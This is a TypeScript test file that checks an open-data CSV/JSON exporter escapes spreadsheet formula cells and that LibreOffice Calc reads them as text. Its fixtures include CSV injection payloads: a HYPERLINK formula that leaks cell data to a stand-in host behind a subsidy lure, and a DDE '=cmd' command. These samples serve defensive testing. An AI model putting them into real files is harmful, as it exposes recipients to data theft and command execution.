import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { personRecord } from '../../../src/lib/open-data/records';
import { csvDocument, jsonDocument, neutralizeFormula } from '../../../src/lib/open-data/serialize';
import { personSchema } from '../../../src/lib/schemas/person';
import { openInCalc } from '../../helpers/spreadsheet';

/** Cells a spreadsheet would run, from the OWASP CSV injection page and a few of our own. */
const FORMULA_CELLS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击领取补贴")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  "=cmd|' /C calc'!A0",
];

const TITLES = ['亳州好人', '安徽好人', '中国好人'] as const;
const ctx = { siteUrl: 'https://site.org', publisher: '测试市文明办' };
const personWith = (name: string, summary: string) =>
  personSchema(TITLES).parse({
    name,
    category: '助人为乐',
    county: '谯城区',
    summary,
    honors: [{ title: '中国好人', period: '2020-05' }],
    consent: true,
  });

describe('open data against CSV injection', () => {
  it('puts an apostrophe before every cell a spreadsheet would read as a formula, and leaves the rest alone', () => {
    for (const cell of FORMULA_CELLS) expect(neutralizeFormula(cell), JSON.stringify(cell)).toBe(`'${cell}`);
    for (const cell of ['张三', '0558-5555555', '2019-Q2', '“=”号', 'a=b', '33.84']) expect(neutralizeFormula(cell)).toBe(cell);
  });

  it('keeps the JSON exact', () => {
    const items = FORMULA_CELLS.map((c, i) => personRecord(`p-${i}`, personWith(`姓名${i}`, c.trim()), ctx));
    const doc = JSON.parse(jsonDocument('people', items, '2020-01-01T00:00:00.000Z', TITLES));
    expect(doc.items.map((p: { summary: string }) => p.summary)).toEqual(FORMULA_CELLS.map((c) => c.trim()));
  });

  it('is read back by LibreOffice Calc as text, cell for cell, with formula evaluation on', async () => {
    // Trimmed by the schema: summaries cannot start with a space, tab or line break.
    const cells = FORMULA_CELLS.map((c) => c.trim());
    const names = cells.map((c) => c.slice(0, 40));
    const items = cells.map((c, i) => personRecord(`p-${i}`, personWith(names[i]!, c), ctx));
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'bz-csv-')), 'people.csv');
    fs.writeFileSync(file, csvDocument('people', items));
    const rows = await openInCalc(file);
    const header = rows[0]!.map((c) => c.text);
    const [name, summary] = [header.indexOf('name'), header.indexOf('summary')];
    const read = rows.slice(1, cells.length + 1);
    expect(
      read
        .flat()
        .filter((c) => c.formula)
        .map((c) => c.formula),
    ).toEqual([]);
    expect(read.map((r) => [r[name]!.type, r[name]!.text])).toEqual(names.map((c) => ['string', `'${c}`]));
    expect(read.map((r) => r[summary]!.text)).toEqual(cells.map((c) => `'${c}`));
  }, 180_000);

  it('would be needed: the same cells without the apostrophe are run by Calc', async () => {
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'bz-csv-')), 'raw.csv');
    fs.writeFileSync(file, `\uFEFFa\r\n=1+1\r\n"=HYPERLINK(""http://evil.example/"",""y"")"\r\n`);
    const rows = await openInCalc(file);
    expect(rows.slice(1, 3).map((r) => r[0]!.formula)).toEqual(['of:=1+1', 'of:=HYPERLINK("http://evil.example/";"y")']);
  }, 180_000);
});
